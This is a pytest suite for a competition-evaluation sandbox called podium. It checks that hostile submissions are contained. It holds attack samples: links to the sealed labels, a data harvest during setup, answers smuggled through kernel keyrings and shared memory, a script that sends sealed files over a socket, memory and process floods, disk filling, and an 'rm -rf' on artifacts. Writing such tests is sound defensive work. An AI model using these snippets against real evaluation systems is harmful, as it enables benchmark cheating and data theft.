"""Issue 13's attacks on the score and the time, each through the real sandbox and the real
service (the CLI where it matters), each followed by a normal submission that must score."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from podium.harness.cgroups import host_hierarchy
from podium.harness.workspace import can_mount_tmpfs
from podium.service import Podium

from ..conftest import CONSTANT_PREDICT, share_store, write_submission
from ..patience import HANG, scaled, wait_until
from .conftest import hostile_cup, living_sandbox_processes, needs_bwrap, run_hostile

pytestmark = [needs_bwrap, pytest.mark.store]  # competitions with stores, shared per module
PODIUM = [sys.executable, "-m", "podium"]
needs_cgroups = pytest.mark.skipif(
    host_hierarchy()[0] is None, reason=f"no writable cgroup hierarchy: {host_hierarchy()[1]}"
)
needs_tmpfs = pytest.mark.skipif(not can_mount_tmpfs(), reason="tmpfs cannot be mounted here")


def podium_cli(*args: str, ok: bool = True) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [*PODIUM, *args], capture_output=True, text=True, timeout=HANG, env={**os.environ}
    )
    if ok:
        assert result.returncode == 0, result.stdout + result.stderr
    return result


def wait_for(condition: Callable[[], bool], what: str) -> None:
    wait_until(condition, what)


# --- 1. predictions are read, never followed ---------------------------------------------

LINK_TO_LABELS = """
import os, pathlib
out = pathlib.Path(os.environ["PODIUM_OUTPUT_DIR"])
host_inputs = next(l.split()[3] for l in open("/proc/self/mountinfo") if l.split()[4] == "/data/input")
labels = host_inputs.replace("/sealed/inputs/", "/sealed/labels/")
print("LABELS AT", labels)
for f in sorted(pathlib.Path(os.environ["PODIUM_INPUT_DIR"]).glob("*/*.jsonl")):
    (out / f.parent.name).mkdir(exist_ok=True)
    {make}
"""


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        ('os.symlink(f"{labels}/{f.parent.name}/{f.name}", out / f.parent.name / f.name)',
         "xnli/de.jsonl: a symbolic link"),
        ('os.mkfifo(out / f.parent.name / f.name)', "xnli/de.jsonl: a fifo"),
        ('(out / "x").write_text("")\n    os.link(out / "x", out / f.parent.name / f.name)',
         "a file with 7 hard links"),  # one file linked as all 7 outputs
    ],
    ids=["symlink-to-labels", "fifo", "hard-link"],
)  # fmt: skip
def test_links_and_special_files_in_the_output_fail_the_run(
    cup: Podium, tmp_path: Path, make: str, problem: str
) -> None:
    status, error, log = run_hostile(cup, tmp_path, LINK_TO_LABELS.format(make=make))
    assert (
        f"LABELS AT {cup.competition.layout.labels_dir('eval')}" in log
    )  # the attacker knew where
    assert status == "failed"
    assert problem in (error or "") and "only regular files are read" in (error or "")


def test_a_link_to_the_labels_fails_through_the_cli(
    cup: Podium, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    share_store(monkeypatch, cup)
    code = LINK_TO_LABELS.format(
        make='os.symlink(f"{labels}/{f.parent.name}/{f.name}", out / f.parent.name / f.name)'
    )
    bad = write_submission(tmp_path / "bad", code)
    good = write_submission(tmp_path / "good", CONSTANT_PREDICT)
    c = ["-c", str(cup.competition.root)]
    podium_cli("submit", str(bad), "--team", "Mallory", *c)
    podium_cli("submit", str(good), "--team", "Mallory", *c)
    podium_cli("evaluate", *c)
    last_two = json.loads(podium_cli("submissions", "--json", *c).stdout)[-2:]
    assert [r["status"] for r in last_two] == ["failed", "scored"]
    assert "a symbolic link" in (last_two[0]["runs"][-1]["error"] or "")
    assert living_sandbox_processes(cup.competition.root) == []


# --- 2, 3, 4. setup sees no data; every repeat starts from the same state ----------------

SETUP_HARVEST = """
import glob, os, pathlib, shutil
found = glob.glob("/data/**/*.jsonl", recursive=True)
print("SETUP INPUT VAR", os.environ.get("PODIUM_INPUT_DIR"), "FILES", len(found), flush=True)
cache = pathlib.Path(os.environ["HOME"]) / "cache"
cache.mkdir()
for f in found:
    shutil.copy(f, cache / pathlib.Path(f).name)
"""
REPLAY = """
import os, pathlib, sys
cache = pathlib.Path(os.environ["HOME"]) / "cache"
if not any(cache.iterdir()):
    print("NOTHING CACHED")
    sys.exit(3)
"""


def test_setup_sees_no_sealed_inputs(cup: Podium, tmp_path: Path) -> None:
    status, error, log = run_hostile(
        cup, tmp_path, REPLAY, setup="python harvest.py", files={"harvest.py": SETUP_HARVEST}
    )
    assert "SETUP INPUT VAR None FILES 0" in log and "NOTHING CACHED" in log
    assert status == "failed" and "exited with code 3" in (error or "")


FRESH_EACH_REPEAT = (
    """
import os, pathlib, sys
home = pathlib.Path(os.environ["HOME"])
if (home / "model.txt").read_text() != "weights":
    print("SNAPSHOT CHANGED"); sys.exit(4)
if (home / "seen").exists() or (home / "cache").exists():
    print("SEEN A PREVIOUS REPEAT"); sys.exit(5)
if any(pathlib.Path(os.environ["PODIUM_OUTPUT_DIR"]).iterdir()):
    print("OUTPUT NOT FRESH"); sys.exit(6)
(home / "seen").write_text("x")
(home / "model.txt").write_text("changed by a repeat")
(home / "cache").mkdir()
"""
    + CONSTANT_PREDICT
)


@pytest.fixture(scope="module")
def repeats_cup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Podium]:
    podium = hostile_cup(
        tmp_path_factory.mktemp("repeats") / "cup", "\n[efficiency]\nrepeats = 3\n"
    )
    yield podium
    podium.close()


def test_every_repeat_starts_from_the_post_setup_state(repeats_cup: Podium, tmp_path: Path) -> None:
    setup = (
        "python -c \\\"import os; open(os.environ['HOME'] + '/model.txt', 'w').write('weights')\\\""
    )
    status, error, log = run_hostile(repeats_cup, tmp_path, FRESH_EACH_REPEAT, setup=setup)
    assert status == "scored", f"{error}\n{log}"
    hostile = repeats_cup.submissions.find()[-2]
    run = repeats_cup.results.run(hostile.runs[-1].id)
    assert len(run.measurements) == 3
    if can_mount_tmpfs():  # handed over copy-on-write, never copied
        assert run.enforcement["tmp"].startswith("an overlay on setup's $HOME")


# Issue 24: answers stored in a kernel object by one run, read by the next repeat, the next
# attempt's setup or another team. Every channel a kernel keeps per user or per host is closed.
CARRY = """
import ctypes, errno, pathlib, sys
import pyseccomp
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def call(name, *args):
    ctypes.set_errno(0)
    result = libc.syscall(pyseccomp.resolve_syscall(0, name), *args)
    return "ok" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")

def carry(phase):
    found = call("request_key", b"user", b"podium-answers", None, 0)
    shm = libc.shmget(0x5EED, 4096, 0)  # System V shared memory, without IPC_CREAT
    dev = pathlib.Path("/dev/shm/podium-answers")
    hit = found == "ok" or shm >= 0 or dev.exists()
    print(phase, "HIT" if hit else "MISS", found, "USERNS", open("/proc/self/uid_map").read().split())
    # leave the answers for whoever runs next, by each channel (-4: the user's keyring)
    print(phase, "ADD_KEY", call("add_key", b"user", b"podium-answers", b"answers", 7, -4))
    libc.shmget(0x5EED, 4096, 0o1666)
    dev.write_text("answers")

if __name__ == "__main__":
    carry(sys.argv[1])
"""


def test_no_kernel_object_carries_answers_between_runs_or_teams(
    repeats_cup: Podium, tmp_path: Path
) -> None:
    cup = repeats_cup
    cup.setup.add_team("Trudy")
    cheat = write_submission(
        tmp_path / "cheat", "import carry\ncarry.carry('REPEAT')\n" + CONSTANT_PREDICT
    )
    (cheat / "podium.toml").write_text(
        '[submission]\ncommand = "python predict.py"\nsetup = "python carry.py SETUP"\n'
    )
    (cheat / "carry.py").write_text(CARRY)
    good = write_submission(tmp_path / "good", CONSTANT_PREDICT)
    cup.submissions.submit(cheat, team="Mallory")
    cup.submissions.submit(cheat, team="Trudy")  # its setup runs after Mallory's repeats
    cup.submissions.submit(good, team="Mallory")
    *cheats, normal = cup.evaluation.evaluate_pending()
    assert normal.status == "scored", normal.error
    for outcome in cheats:
        run = cup.results.run(outcome.run_id)
        assert outcome.status == "scored", f"{outcome.error}\n{run.log_tail}"
        assert len(run.measurements) == 3
        log = run.log_tail
        assert "HIT" not in log, log
        assert log.count("SETUP MISS EPERM") == 1 and log.count("REPEAT MISS EPERM") == 3, log
        assert log.count("ADD_KEY EPERM") == 4
        assert "USERNS ['0', '0', '4294967295']" not in log  # never the host's user namespace
    assert living_sandbox_processes(cup.competition.root) == []


@pytest.fixture(scope="module")
def networked_setup_cup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Podium]:
    podium = hostile_cup(tmp_path_factory.mktemp("net") / "cup", "setup_network = true\n")
    yield podium
    podium.close()


def test_a_networked_setup_has_no_sealed_data_to_send(
    networked_setup_cup: Podium, tmp_path: Path
) -> None:
    cup = networked_setup_cup
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    received: list[bytes] = []

    def listen() -> None:
        conn, _ = server.accept()
        with conn:
            while chunk := conn.recv(65536):
                received.append(chunk)

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    sealed = cup.competition.layout.inputs_dir("eval")
    leak = f"""
import glob, socket
payload = []
for pattern in ["/data/**/*.jsonl", "{sealed}/**/*.jsonl"]:
    for f in glob.glob(pattern, recursive=True):
        payload.append(open(f).read())
with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
    s.sendall(("SENT %d FILES\\n" % len(payload) + "".join(payload)).encode())
"""
    status, _, _ = run_hostile(
        cup, tmp_path, CONSTANT_PREDICT, setup="python leak.py", files={"leak.py": leak}
    )
    thread.join(timeout=HANG)
    server.close()
    text = b"".join(received).decode()
    assert text.startswith("SENT 0 FILES")  # the network worked; there was nothing to send
    first_id = json.loads((sealed / "xnli" / "en.jsonl").read_text().splitlines()[0])["id"]
    assert first_id not in text
    assert status == "scored"


# --- 5. malformed predictions fail the run; the queue goes on ----------------------------

POISON = """
import os, pathlib
out = pathlib.Path(os.environ["PODIUM_OUTPUT_DIR"])
for task in ("xnli", "pawsx", "udpos", "panx"):
    (out / task).mkdir()
(out / "xnli/en.jsonl").write_bytes(b'{"id": "\\xff\\xfe", "label": "neutral"}\\n')
(out / "xnli/de.jsonl").write_text("[" * 100000 + "\\n")
(out / "pawsx/en.jsonl").write_text('{"id": ' + "9" * 10000 + '}\\n')
(out / "udpos/en.jsonl").write_text('{"id": NaN}\\n')
(out / "panx/en.jsonl").write_bytes(b"\\xef\\xbb\\xbf" + b'{"id": "x"}\\n')
(out / "panx/ja.jsonl").write_text('["id", "tags"]\\n')
"""


def test_malformed_predictions_fail_cleanly_through_the_cli(
    cup: Podium, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    share_store(monkeypatch, cup)
    bad = write_submission(tmp_path / "bad", POISON)
    good = write_submission(tmp_path / "good", CONSTANT_PREDICT)
    c = ["-c", str(cup.competition.root)]
    podium_cli("submit", str(bad), "--team", "Mallory", *c)
    podium_cli("submit", str(good), "--team", "Mallory", *c)
    out = podium_cli("evaluate", *c).stdout
    assert "Traceback" not in out
    poisoned, normal = json.loads(podium_cli("submissions", "--json", *c).stdout)[-2:]
    assert (poisoned["status"], normal["status"]) == ("failed", "scored")
    error = poisoned["runs"][-1]["error"]
    for expected in (
        "xnli/en.jsonl:1: not valid UTF-8",
        "xnli/de.jsonl:1: JSON nested too deeply",
        "pawsx/en.jsonl:1: not valid JSON",
        "udpos/en.jsonl:1: not valid JSON (NaN is not a JSON number)",
        "panx/en.jsonl:1: the file starts with a byte order mark",
        "panx/ja.jsonl:1: each line must be a JSON object, got list",
    ):
        assert expected in error


def test_an_unexpected_error_is_a_platform_fault_and_the_queue_goes_on(tmp_path: Path) -> None:
    cup = hostile_cup(tmp_path / "cup")
    try:
        labels = cup.competition.layout.labels_dir("eval") / "panx" / "en.jsonl"
        saved = labels.read_text()
        record = json.loads(saved.splitlines()[0])
        labels.write_text(json.dumps({**record, "tags": 5}) + "\n" + saved)  # breaks scoring
        first = cup.submissions.submit(
            write_submission(tmp_path / "a", CONSTANT_PREDICT), team="Mallory"
        )
        second = cup.submissions.submit(
            write_submission(tmp_path / "b", CONSTANT_PREDICT), team="Mallory"
        )
        outcomes = cup.evaluation.evaluate_pending()  # ends: each is tried three times, then held
        assert [o.status for o in outcomes] == ["platform_error"] * 6
        assert "TypeError" in (outcomes[0].error or "")
        assert (
            "Traceback"
            in cup.competition.layout.run_dir(outcomes[0].run_id).joinpath("log.txt").read_text()
        )
        assert {s.status for s in cup.submissions.find()} == {"attention"}
        assert (
            cup.submissions.attempts_left("Mallory")["evaluation"] == 97
        )  # reserved, not consumed
        labels.write_text(saved)  # the organizer mends the labels and re-runs both
        for sub in cup.submissions.find():
            cup.evaluation.retry_run(sub.runs[-1].id)
        assert [o.status for o in cup.evaluation.evaluate_pending()] == ["scored", "scored"]
        assert {s.id for s in cup.submissions.find()} == {first.submission_id, second.submission_id}
    finally:
        cup.close()


# --- 6. the sandbox dies with the evaluator; a new evaluator cleans up --------------------

SLEEPER = "import subprocess, time\nsubprocess.Popen(['sleep', '600'])\ntime.sleep(600)"


def _podium_groups(cup: Podium) -> list[str]:
    hierarchy = host_hierarchy()[0]
    if hierarchy is None:
        return []
    prefix = cup.evaluation._group_prefix
    return [
        child.name
        for parent in hierarchy.parents.values()
        for child in parent.iterdir()
        if child.is_dir() and child.name.startswith(prefix)
    ]


@needs_cgroups
def test_killing_the_evaluator_kills_its_sandbox(tmp_path: Path) -> None:
    cup = hostile_cup(tmp_path / "cup", timeout=scaled(4.0))  # the sleeper's re-run times out
    try:
        cup.submissions.submit(write_submission(tmp_path / "sleeper", SLEEPER), team="Mallory")
        evaluator = subprocess.Popen([*PODIUM, "evaluate", "-c", str(cup.competition.root)])
        wait_for(
            lambda: len(living_sandbox_processes(cup.competition.root)) >= 2, "the sandbox to start"
        )
        evaluator.kill()  # kill -9: no clean-up code of ours runs
        evaluator.wait()
        wait_for(lambda: living_sandbox_processes(cup.competition.root) == [], "the sandbox to die")
        assert any(
            cup.competition.layout.work_dir.iterdir()
        )  # its folders wait for the next evaluator
        cup.submissions.submit(
            write_submission(tmp_path / "good", CONSTANT_PREDICT), team="Mallory"
        )
        out = podium_cli("evaluate", "-c", str(cup.competition.root)).stdout
        runs = [r for s in cup.submissions.find() for r in s.runs]
        assert [r.status for r in runs] == ["platform_error", "failed", "scored"], out
        assert "timed out" in (runs[1].error or "")
        assert not any(cup.competition.layout.work_dir.iterdir()) and _podium_groups(cup) == []
        assert cup.submissions.attempts_left("Mallory")["evaluation"] == 97
    finally:
        cup.close()


def test_deleting_artifacts_mid_run_costs_no_attempt(tmp_path: Path) -> None:
    cup = hostile_cup(tmp_path / "cup", timeout=30.0)
    try:
        slow = "import time\ntime.sleep(1.5)\n" + CONSTANT_PREDICT
        cup.submissions.submit(write_submission(tmp_path / "slow", slow), team="Mallory")
        evaluator = subprocess.Popen([*PODIUM, "evaluate", "-c", str(cup.competition.root)])
        wait_for(
            lambda: living_sandbox_processes(cup.competition.root) != [], "the sandbox to start"
        )
        # an organizer's `rm -rf artifacts`: it fails only on the run's mount points
        subprocess.run(["rm", "-rf", str(cup.competition.layout.artifacts_dir)], check=False)
        assert evaluator.wait(timeout=HANG) == 0
        [sub] = cup.submissions.find()
        assert sub.runs[0].status == "platform_error"
        assert sub.status in ("queued", "attention")  # its archive went too: never "failed"
        assert cup.submissions.attempts_left("Mallory")["evaluation"] == 98
    finally:
        cup.close()


# --- 7. limits hold for the whole run ------------------------------------------------------

FOUR_CHILDREN = """
import os, time
pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        block = bytearray(300 * 1024 * 1024)
        for i in range(0, len(block), 4096):
            block[i] = 1
        time.sleep(2)
        os._exit(0)
    pids.append(pid)
for pid in pids:
    os.waitpid(pid, 0)
"""


@needs_cgroups
def test_memory_is_limited_for_the_whole_process_tree(cup: Podium, tmp_path: Path) -> None:
    status, error, _ = run_hostile(cup, tmp_path, FOUR_CHILDREN + "raise SystemExit(1)")
    assert status == "failed" and "ran out of memory" in (error or "")


@needs_cgroups
def test_peak_memory_is_that_of_the_whole_tree(cup: Podium, tmp_path: Path) -> None:
    two = FOUR_CHILDREN.replace("range(4)", "range(2)").replace("300 *", "200 *")
    run_hostile(cup, tmp_path, two + CONSTANT_PREDICT)
    run = cup.results.run(cup.submissions.find()[-2].runs[-1].id)
    assert run.measurements[0].peak_rss_bytes > 400 * 1024**2  # two children of 200 MiB
    assert run.enforcement["memory"].startswith("cgroup v")
    assert run.enforcement["processes"].startswith("cgroup v")


@needs_cgroups
def test_processes_are_limited_for_the_whole_run(cup: Podium, tmp_path: Path) -> None:
    code = "import subprocess\nfor _ in range(100):\n    subprocess.Popen(['sleep', '30'])"
    status, error, log = run_hostile(cup, tmp_path, code)
    assert status == "failed" and "BlockingIOError" in log
    assert "reached the limit of 48 processes" in (error or "")


@pytest.fixture(scope="module")
def tight_cup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Podium]:
    extra = 'tmp_mb = 64\nmax_output_mb = 16\ncpus = "1"\n'
    podium = hostile_cup(tmp_path_factory.mktemp("tight") / "cup", extra)
    yield podium
    podium.close()


@needs_tmpfs
@pytest.mark.parametrize(
    ("folder", "message"),
    [("os.environ['TMPDIR']", "its /tmp of 64 MiB"),
     ("os.environ['PODIUM_OUTPUT_DIR']", "its output folder of 16 MiB")],
    ids=["tmp", "output"],
)  # fmt: skip
def test_a_run_cannot_fill_the_disk(
    tight_cup: Podium, tmp_path: Path, folder: str, message: str
) -> None:
    code = f"import os\nwith open(os.path.join({folder}, 'big'), 'wb') as f:\n"
    code += "    for _ in range(200):\n        f.write(b'x' * 2**20)\n"
    status, error, _ = run_hostile(tight_cup, tmp_path, code)
    assert status == "failed" and message in (error or "")
    run = tight_cup.results.run(tight_cup.submissions.find()[-2].runs[-1].id)
    assert run.enforcement["tmp"].startswith("tmpfs of 64 MiB")
    assert run.enforcement["output"].startswith("tmpfs of 16 MiB")


@needs_cgroups
def test_every_run_gets_the_declared_cores(tight_cup: Podium, tmp_path: Path) -> None:
    code = (
        "import os\ntry:\n    os.sched_setaffinity(0, {0, 1})\nexcept OSError as e:\n"
        "    print('REFUSED', e)\nprint('CPUS', sorted(os.sched_getaffinity(0)))\n"
        "raise SystemExit(1)"
    )
    _, _, log = run_hostile(tight_cup, tmp_path, code)
    assert "CPUS [1]" in log


# --- 8. a failed run keeps its log and nothing else ----------------------------------------


def test_a_failed_run_keeps_only_its_log(cup: Podium, tmp_path: Path) -> None:
    code = CONSTANT_PREDICT + "\nprint('WROTE THEM ALL')\nraise SystemExit(2)"
    status, _, log = run_hostile(cup, tmp_path, code)
    assert status == "failed" and "WROTE THEM ALL" in log
    failed, scored = cup.submissions.find()[-2:]
    failed_dir = cup.competition.layout.run_dir(failed.runs[-1].id)
    assert (failed_dir / "log.txt").is_file() and not (failed_dir / "predictions").exists()
    assert (
        cup.competition.layout.run_dir(scored.runs[-1].id) / "predictions" / "xnli" / "en.jsonl"
    ).is_file()
